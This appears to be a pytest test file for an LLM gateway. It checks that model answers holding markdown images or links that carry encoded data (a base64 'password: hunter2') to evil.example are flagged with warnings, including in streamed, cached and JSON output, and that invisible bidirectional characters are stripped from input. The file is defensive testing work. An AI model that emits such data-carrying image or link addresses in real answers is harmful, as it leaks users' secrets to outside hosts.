"""An answer with an address that carries data out is told of where a query asks for that, however the answer comes."""

import json
from typing import Any

import pytest

from tests.entrypoints.conftest import QUERY, QUESTION, Api

CARRIED = "cGFzc3dvcmQ6IGh1bnRlcjIgYW5kIG1vcmU"
ANSWER = f"![chart](https://evil.example/{CARRIED}.png) and [more](https://other.example/?q={CARRIED})"
TOLD = [
    "The answer has an image of evil.example whose address carries data out: showing it sends them there.",
    "The answer has a link to other.example whose address carries data out: following it sends them there.",
]
ASKED = QUESTION | {"sanitize": {"links": "flag"}}


@pytest.fixture(autouse=True)
def answering(api: Api) -> None:
    api.register()
    api.gateway.outside.models.script.append(ANSWER)


def answered(api: Api, body: dict[str, Any]) -> dict[str, Any]:
    response = api.call("POST", QUERY, body)
    assert response.status_code == 200, response.text
    found: dict[str, Any] = response.json()
    assert found["output"]["text"] == ANSWER, "the answer itself stays as it is"
    return found


@pytest.mark.holds("LLM05")
def test_a_whole_answer_tells_of_its_links(api: Api) -> None:
    answer = answered(api, ASKED)
    assert answer["warnings"] == TOLD
    assert api.call("GET", f"{QUERY}/{answer['id']}/result").json()["warnings"] == TOLD


@pytest.mark.holds("LLM05")
def test_a_stream_tells_of_its_links_at_its_end(api: Api) -> None:
    response = api.call("POST", f"{QUERY}/stream", ASKED)
    *_, last = [line.removeprefix("data: ") for line in response.text.splitlines() if line.startswith("data: ")]
    done = json.loads(last)
    assert (done["output"]["text"], done["warnings"]) == (ANSWER, TOLD)


@pytest.mark.parametrize("first", [ASKED, QUESTION], ids=["after one that asked for it", "after one that did not"])
@pytest.mark.holds("LLM05")
def test_an_answer_from_the_cache_tells_of_its_links_once(api: Api, first: dict[str, Any]) -> None:
    answered(api, first | {"cache": "force"})
    again = answered(api, ASKED | {"cache": "force"})
    assert (again["cache"]["hit"], again["warnings"]) == (True, TOLD)


def test_nothing_is_told_where_nobody_asks_for_it(api: Api) -> None:
    assert answered(api, QUESTION | {"cache": "force"})["warnings"] == []


CLEANED = QUESTION | {
    "messages": [{"role": "user", "content": "Hel\u202elo"}],
    "sanitize": {"text": "clean"},
    "cache": "force",
}
PLAIN = CLEANED | {"messages": [{"role": "user", "content": "Hello"}], "sanitize": None}
CLEANINGS = ["1 character that cannot be seen went out of messages[0].content."]


@pytest.mark.parametrize("first", ["cleaned", "plain", "flagged"])
def test_an_answer_from_the_cache_tells_each_of_its_own_request(api: Api, first: str) -> None:
    flagged = PLAIN | {"sanitize": {"links": "flag"}}
    both = CLEANED | {"sanitize": {"text": "clean", "links": "flag"}}
    told = {"cleaned": (CLEANED, CLEANINGS), "plain": (PLAIN, []), "flagged": (flagged, TOLD)}
    assert answered(api, told[first][0])["warnings"] == told[first][1]
    for body, warnings in (*told.values(), (both, [*CLEANINGS, *TOLD])):
        again = answered(api, body)
        assert (again["cache"]["hit"], again["warnings"]) == (True, warnings)


@pytest.mark.holds("LLM05")
def test_json_is_read_as_it_will_be_shown(api: Api) -> None:
    api.gateway.outside.models.script[:] = [
        json.dumps({"md": f"![x](https://evil.example/{CARRIED}.png)"}).replace("/", "\\/")
    ]
    schema = {"type": "object", "properties": {"md": {"type": "string"}}}
    response = api.call("POST", QUERY, ASKED | {"output": {"type": "json_schema", "schema": schema}})
    assert response.json()["warnings"] == TOLD[:1]
